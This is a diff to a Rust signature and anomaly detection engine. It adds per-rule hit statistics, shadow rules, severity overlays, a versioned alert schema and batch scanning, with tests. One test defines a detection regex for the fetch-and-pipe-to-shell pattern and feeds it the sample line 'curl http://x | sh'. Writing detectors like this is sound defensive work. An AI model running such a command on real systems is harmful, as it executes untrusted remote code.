@@ -1,8 +1,28 @@
 use super::{RuleSet, AnomalyDetector};
-use serde::Serialize;
+use super::features::{FeaturePipeline, EventView};
+use serde::{Deserialize, Serialize};
 use parking_lot::RwLock;
 use std::sync::Arc;
 use sha2::{Sha256, Digest};
+use std::collections::HashMap;
+use once_cell::sync::Lazy;
+use opentelemetry::{KeyValue, metrics::Counter};
+
+static SHADOW_MATCH_TOTAL: Lazy<Counter<u64>> = Lazy::new(|| {
+    opentelemetry::global::meter("sensor-gateway").u64_counter("swarm_detection_shadow_match_total").with_description("Shadow rule matches (evaluated, never alerted)").init()
+});
+
+static RULE_HITS_TOTAL: Lazy<Counter<u64>> = Lazy::new(|| {
+    opentelemetry::global::meter("sensor-gateway").u64_counter("swarm_detection_rule_hits_total").with_description("Alerting signature matches per rule").init()
+});
+
+/// One loaded rule's hit tally (`hits == 0` marks dead weight).
+#[derive(Debug, Serialize, Clone, PartialEq)]
+pub struct RuleStat {
+    pub rule_id: String,
+    pub hits: u64,
+    pub last_hit_ts: Option<u64>, // unix secs
+}
 
 #[derive(Debug, Serialize, Clone)]
 pub struct DetectionEvent {
@@ -11,6 +31,53 @@ pub struct DetectionEvent {
     pub severity: String,
     pub payload_preview: String,
     pub payload_hash: String, // SHA-256 hex digest for exact matching
+    #[serde(skip)] // not part of the legacy log shape; carried into `DetectionAlert`
+    pub matched_span: Option<(usize, usize)>, // byte range of the signature match in the line
+}
+
+pub const ALERT_SCHEMA_VERSION: &str = "v1";
+pub const ALERT_SUBJECT: &str = "threat.v1.alert.detected";
+
+/// Subject for `DetectionAlert`s; with `DETECTION_ALERT_SUBJECT_VERSIONED=1` the schema version
+/// is appended (`threat.v1.alert.detected.v1`) so consumers can pin a schema.
+pub fn alert_subject() -> String {
+    let versioned = std::env::var("DETECTION_ALERT_SUBJECT_VERSIONED").map(|v| v == "1" || v.eq_ignore_ascii_case("true")).unwrap_or(false);
+    if versioned { format!("{ALERT_SUBJECT}.{ALERT_SCHEMA_VERSION}") } else { ALERT_SUBJECT.to_string() }
+}
+
+/// Versioned wire schema for published detections. Additive changes keep `schema_version`;
+/// anything else bumps it (see docs/event-taxonomy.md).
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq)]
+pub struct DetectionAlert {
+    pub schema_version: String,
+    pub id: String, // stable per (payload, rule|kind): re-detections of the same line dedupe downstream
+    pub rule_id: Option<String>,
+    pub kind: String,
+    pub severity: String,
+    pub source_event_id: String, // RawEvent.id the detection came from
+    pub origin: String,
+    pub matched_span: Option<(usize, usize)>,
+    pub payload_preview: String,
+    pub payload_hash: String,
+    pub detector_version: String,
+}
+
+impl From<DetectionEvent> for DetectionAlert {
+    fn from(ev: DetectionEvent) -> Self {
+        let mut hasher = Sha256::new();
+        hasher.update(ev.payload_hash.as_bytes());
+        hasher.update(ev.rule_id.as_deref().unwrap_or(&ev.kind).as_bytes());
+        let id = format!("{:x}", hasher.finalize())[..32].to_string();
+        Self {
+            schema_version: ALERT_SCHEMA_VERSION.into(), id, rule_id: ev.rule_id, kind: ev.kind, severity: ev.severity,
+            source_event_id: String::new(), origin: String::new(), matched_span: ev.matched_span,
+            payload_preview: ev.payload_preview, payload_hash: ev.payload_hash, detector_version: env!("CARGO_PKG_VERSION").into(),
+        }
+    }
+}
+
+impl DetectionAlert {
+    pub fn with_source(mut self, event_id: &str, origin: &str) -> Self { self.source_event_id = event_id.into(); self.origin = origin.into(); self }
 }
 
 #[derive(Clone)]
@@ -20,47 +87,239 @@ pub struct DetectionEngine {
     pub enabled: bool,
     anomaly_enabled: bool,
     signature_enabled: bool,
+    features: Arc<FeaturePipeline>,
+    shadow_matches: Arc<RwLock<HashMap<String, u64>>>, // rule id -> matches (mirrors swarm_detection_shadow_match_total)
     pub last_events: Arc<RwLock<Vec<DetectionEvent>>>,
 }
 
 impl DetectionEngine {
     pub fn new(rules: RuleSet, anomaly: AnomalyDetector, enabled: bool, anomaly_enabled: bool, signature_enabled: bool) -> Self {
-        Self { rules, anomaly, enabled, anomaly_enabled, signature_enabled, last_events: Arc::new(RwLock::new(Vec::new())) }
+        Self { rules, anomaly, enabled, anomaly_enabled, signature_enabled, features: Arc::new(FeaturePipeline::from_env()), shadow_matches: Arc::new(RwLock::new(HashMap::new())), last_events: Arc::new(RwLock::new(Vec::new())) }
+    }
+
+    /// Replace the anomaly feature pipeline (defaults to `ANOMALY_FEATURES`).
+    pub fn with_features(mut self, features: FeaturePipeline) -> Self { self.features = Arc::new(features); self }
+
+    /// Per-rule shadow match counts since start.
+    pub fn shadow_match_counts(&self) -> HashMap<String, u64> { self.shadow_matches.read().clone() }
+
+    /// Hit counts for every loaded rule, in bundle order.
+    pub fn rule_stats(&self) -> Vec<RuleStat> {
+        let hits = self.rules.hits.read();
+        self.rules.rules.read().iter().map(|cr| {
+            let h = hits.get(&cr.raw.id).copied().unwrap_or_default();
+            RuleStat { rule_id: cr.raw.id.clone(), hits: h.hits, last_hit_ts: (h.hits > 0).then_some(h.last_hit_ts) }
+        }).collect()
+    }
+
+    fn record_hit(&self, rule_id: &str) {
+        RULE_HITS_TOTAL.add(1, &[KeyValue::new("rule_id", rule_id.to_string())]);
+        let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
+        let mut hits = self.rules.hits.write();
+        let h = hits.entry(rule_id.to_string()).or_default();
+        h.hits += 1;
+        h.last_hit_ts = now;
     }
 
     pub fn scan(&self, line: &str) -> Vec<DetectionEvent> {
         if !self.enabled { return vec![]; }
-        let mut out = Vec::new();
         // Compute canonical hash once for all detections on this payload
-        let mut hasher = Sha256::new();
-        hasher.update(line.as_bytes());
-        let hash = format!("{:x}", hasher.finalize());
-        
+        let hash = payload_hash(line);
+        let mut out = self.scan_signatures(line, &hash);
+        if self.anomaly_enabled {
+            let features = self.features.extract(&EventView { payload: line, timestamp_ms: now_ms() });
+            if let Some(true) = self.anomaly.record_features(features) { out.push(anomaly_event(line, hash)); }
+        }
+        if !out.is_empty() { *self.last_events.write() = out.clone(); }
+        out
+    }
+
+    /// `scan` for several lines; anomaly statistics take one `record_batch` for the whole batch.
+    pub fn scan_batch(&self, lines: &[String]) -> Vec<Vec<DetectionEvent>> {
+        if !self.enabled { return vec![vec![]; lines.len()]; }
+        let hashes: Vec<String> = lines.iter().map(|l| payload_hash(l)).collect();
+        let mut out: Vec<Vec<DetectionEvent>> = lines.iter().zip(&hashes).map(|(l, h)| self.scan_signatures(l, h)).collect();
+        if self.anomaly_enabled {
+            let ts = now_ms();
+            let features = lines.iter().map(|l| self.features.extract(&EventView { payload: l, timestamp_ms: ts })).collect();
+            for (((events, line), hash), anomalous) in out.iter_mut().zip(lines).zip(hashes).zip(self.anomaly.record_batch(features)) {
+                if anomalous { events.push(anomaly_event(line, hash)); }
+            }
+        }
+        if let Some(last) = out.iter().rev().find(|e| !e.is_empty()) { *self.last_events.write() = last.clone(); }
+        out
+    }
+
+    fn scan_signatures(&self, line: &str, hash: &str) -> Vec<DetectionEvent> {
+        let mut out = Vec::new();
         if self.signature_enabled {
+            let overlay = self.rules.overlay.read();
+            let file_overlay = self.rules.file_overlay.read();
             for cr in self.rules.rules.read().iter() {
-                if cr.regex.is_match(line) {
+                if overlay.disabled.contains(&cr.raw.id) || file_overlay.disabled.contains(&cr.raw.id) { continue; }
+                if let Some(span) = cr.find(line) {
+                    if cr.raw.shadow {
+                        // measured only: no alert and no TP/FP accounting
+                        SHADOW_MATCH_TOTAL.add(1, &[KeyValue::new("rule_id", cr.raw.id.clone())]);
+                        *self.shadow_matches.write().entry(cr.raw.id.clone()).or_default() += 1;
+                        tracing::info!(rule_id=%cr.raw.id, "shadow_rule_match");
+                        continue;
+                    }
+                    self.record_hit(&cr.raw.id);
+                    let severity = overlay.severity.get(&cr.raw.id).or_else(|| file_overlay.severity.get(&cr.raw.id)).cloned().or_else(|| cr.raw.severity.clone());
                     out.push(DetectionEvent { 
                         rule_id: Some(cr.raw.id.clone()), 
                         kind: "signature".into(), 
-                        severity: cr.raw.severity.clone().unwrap_or_else(|| "info".into()), 
+                        severity: severity.unwrap_or_else(|| "info".into()), 
                         payload_preview: line.chars().take(120).collect(),
-                        payload_hash: hash.clone(),
+                        payload_hash: hash.to_string(),
+                        matched_span: Some(span),
                     });
                 }
             }
         }
-        if self.anomaly_enabled {
-            if let Some(true) = self.anomaly.record(line.len()) {
-                out.push(DetectionEvent { 
-                    rule_id: None, 
-                    kind: "anomaly".into(), 
-                    severity: "medium".into(), 
-                    payload_preview: line.chars().take(120).collect(),
-                    payload_hash: hash.clone(),
-                });
-            }
-        }
-        if !out.is_empty() { *self.last_events.write() = out.clone(); }
         out
     }
 }
+
+fn payload_hash(line: &str) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(line.as_bytes());
+    format!("{:x}", hasher.finalize())
+}
+
+fn now_ms() -> u64 { std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_millis() as u64).unwrap_or(0) }
+
+fn anomaly_event(line: &str, payload_hash: String) -> DetectionEvent {
+    DetectionEvent { rule_id: None, kind: "anomaly".into(), severity: "medium".into(), payload_preview: line.chars().take(120).collect(), payload_hash, matched_span: None }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detection::{rules::{CompiledRule, Matcher, RuleOverlay}, DetectionRule, anomaly::AnomalyConfig};
+
+    fn rule(id: &str, pattern: &str, severity: &str) -> CompiledRule {
+        CompiledRule { raw: DetectionRule { id: id.into(), pattern: pattern.into(), severity: Some(severity.into()), action: None, shadow: false, match_type: Default::default() }, matcher: Matcher::Regex(regex::Regex::new(pattern).unwrap()) }
+    }
+
+    #[test]
+    fn overlay_disables_and_overrides_at_runtime() {
+        let rules = RuleSet::new();
+        rules.swap(vec![rule("noisy", "login", "low"), rule("exfil", "upload", "medium")], "h".into());
+        let engine = DetectionEngine::new(rules.clone(), AnomalyDetector::new(AnomalyConfig::default()), true, false, true);
+        let line = "login then upload";
+        assert_eq!(engine.scan(line).len(), 2);
+
+        let cfg = swarm_core::DynamicConfig {
+            disabled_rules: Some(vec!["noisy".into()]),
+            rule_severity_overrides: Some([("exfil".to_string(), "critical".to_string())].into_iter().collect()),
+            ..Default::default()
+        };
+        rules.set_overlay(RuleOverlay::from_config(&cfg));
+        let ev = engine.scan(line);
+        assert_eq!(ev.len(), 1);
+        assert_eq!(ev[0].rule_id.as_deref(), Some("exfil"));
+        assert_eq!(ev[0].severity, "critical");
+
+        // a bundle reload keeps the overlay; clearing it restores the base rules
+        rules.swap(vec![rule("noisy", "login", "low"), rule("exfil", "upload", "medium")], "h2".into());
+        assert_eq!(engine.scan(line).len(), 1);
+        rules.set_overlay(RuleOverlay::from_config(&swarm_core::DynamicConfig::default()));
+        let ev = engine.scan(line);
+        assert_eq!(ev.len(), 2);
+        assert!(ev.iter().any(|e| e.rule_id.as_deref() == Some("exfil") && e.severity == "medium"));
+    }
+
+    #[test]
+    fn override_file_disables_and_regrades_without_signature() {
+        let rules = RuleSet::new();
+        rules.swap(vec![rule("noisy", "login", "low"), rule("exfil", "upload", "medium")], "h".into());
+        let engine = DetectionEngine::new(rules.clone(), AnomalyDetector::new(AnomalyConfig::default()), true, false, true);
+        assert_eq!(engine.scan("login then upload").len(), 2);
+
+        let path = std::env::temp_dir().join(format!("swarm-rule-overrides-{}.yaml", std::process::id()));
+        std::fs::write(&path, "noisy: { enabled: false }\nexfil: { severity: high }\n").unwrap();
+        rules.set_file_overlay(RuleOverlay::from_file(path.to_str().unwrap()).unwrap());
+        let _ = std::fs::remove_file(&path);
+        let ev = engine.scan("login then upload");
+        assert_eq!(ev.len(), 1);
+        assert_eq!((ev[0].rule_id.as_deref(), ev[0].severity.as_str()), (Some("exfil"), "high"));
+
+        // DynamicConfig severity overrides take precedence over the file
+        rules.set_overlay(RuleOverlay { severity: [("exfil".to_string(), "critical".to_string())].into_iter().collect(), ..Default::default() });
+        assert_eq!(engine.scan("upload").remove(0).severity, "critical");
+    }
+
+    #[test]
+    fn rule_hits_count_per_rule_and_follow_swaps() {
+        let rules = RuleSet::new();
+        rules.swap(vec![rule("login", "login", "low"), rule("exfil", "upload", "medium"), rule("dead", "never-matches", "low")], "h".into());
+        let engine = DetectionEngine::new(rules.clone(), AnomalyDetector::new(AnomalyConfig::default()), true, false, true);
+        let before = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
+        engine.scan("login ok");
+        engine.scan("login then upload");
+        let stats = engine.rule_stats();
+        assert_eq!(stats.iter().map(|s| (s.rule_id.as_str(), s.hits)).collect::<Vec<_>>(), vec![("login", 2), ("exfil", 1), ("dead", 0)]);
+        assert!(stats[0].last_hit_ts.unwrap() >= before);
+        assert_eq!(stats[2].last_hit_ts, None);
+
+        // ids that survive a swap keep their tally; removed ids start over if they come back
+        rules.swap(vec![rule("login", "login", "low")], "h2".into());
+        engine.scan("login again");
+        rules.swap(vec![rule("login", "login", "low"), rule("exfil", "upload", "medium")], "h3".into());
+        let stats = engine.rule_stats();
+        assert_eq!((stats[0].hits, stats[1].hits), (3, 0));
+    }
+
+    #[test]
+    fn detection_alert_round_trips_and_keeps_legacy_log_shape() {
+        let rules = RuleSet::new();
+        rules.swap(vec![rule("known", "MALICIOUS", "critical")], "h".into());
+        let engine = DetectionEngine::new(rules, AnomalyDetector::new(AnomalyConfig::default()), true, false, true);
+        let ev = engine.scan("payload MALICIOUS tail").remove(0);
+        let legacy = serde_json::to_value(&ev).unwrap();
+        assert!(legacy.get("matched_span").is_none(), "legacy shape changed: {legacy}");
+
+        let alert = DetectionAlert::from(ev.clone()).with_source("17-42", "host-a");
+        assert_eq!(alert.schema_version, "v1");
+        assert_eq!(alert.matched_span, Some((8, 17)));
+        assert_eq!((alert.source_event_id.as_str(), alert.origin.as_str()), ("17-42", "host-a"));
+        assert_eq!(alert.id, DetectionAlert::from(ev).id, "alert id must be stable");
+        let json = serde_json::to_string(&alert).unwrap();
+        assert_eq!(serde_json::from_str::<DetectionAlert>(&json).unwrap(), alert);
+    }
+
+    #[test]
+    fn shadow_rule_counts_but_never_alerts() {
+        let rules = RuleSet::new();
+        let mut shadow = rule("candidate", "curl .*\\|\\s*sh", "high");
+        shadow.raw.shadow = true;
+        rules.swap(vec![shadow, rule("known", "MALICIOUS", "critical")], "h".into());
+        let engine = DetectionEngine::new(rules, AnomalyDetector::new(AnomalyConfig::default()), true, false, true);
+
+        assert!(engine.scan("curl http://x | sh").is_empty(), "shadow match must not alert");
+        assert_eq!(engine.shadow_match_counts().get("candidate"), Some(&1));
+        let ev = engine.scan("MALICIOUS curl http://x | sh");
+        assert_eq!(ev.len(), 1);
+        assert_eq!(ev[0].rule_id.as_deref(), Some("known"));
+        assert_eq!(engine.shadow_match_counts().get("candidate"), Some(&2));
+    }
+
+    #[test]
+    fn batch_scan_matches_per_line_signatures_and_flags_feature_outliers() {
+        let rules = RuleSet::new();
+        rules.swap(vec![rule("known", "MALICIOUS", "critical")], "h".into());
+        let anomaly = AnomalyDetector::new(AnomalyConfig { min_events: u64::MAX, warmup_samples: 50, ..Default::default() });
+        let engine = DetectionEngine::new(rules, anomaly, true, true, true).with_features(FeaturePipeline::from_spec("length").unwrap());
+        let warm: Vec<String> = (0..50).map(|i| format!("GET /{}", "a".repeat(10 + i % 7))).collect();
+        assert!(engine.scan_batch(&warm).iter().all(|e| e.is_empty()));
+
+        let lines = vec![format!("GET /{}", "a".repeat(13)), "MALICIOUS".to_string(), "x".repeat(4096)];
+        let out = engine.scan_batch(&lines);
+        assert!(out[0].is_empty());
+        assert_eq!(out[1].iter().map(|e| e.kind.as_str()).collect::<Vec<_>>(), vec!["signature"]);
+        assert_eq!(out[2].iter().map(|e| e.kind.as_str()).collect::<Vec<_>>(), vec!["anomaly"]);
+        assert_eq!(out[1][0].payload_hash, engine.scan("MALICIOUS")[0].payload_hash);
+    }
+}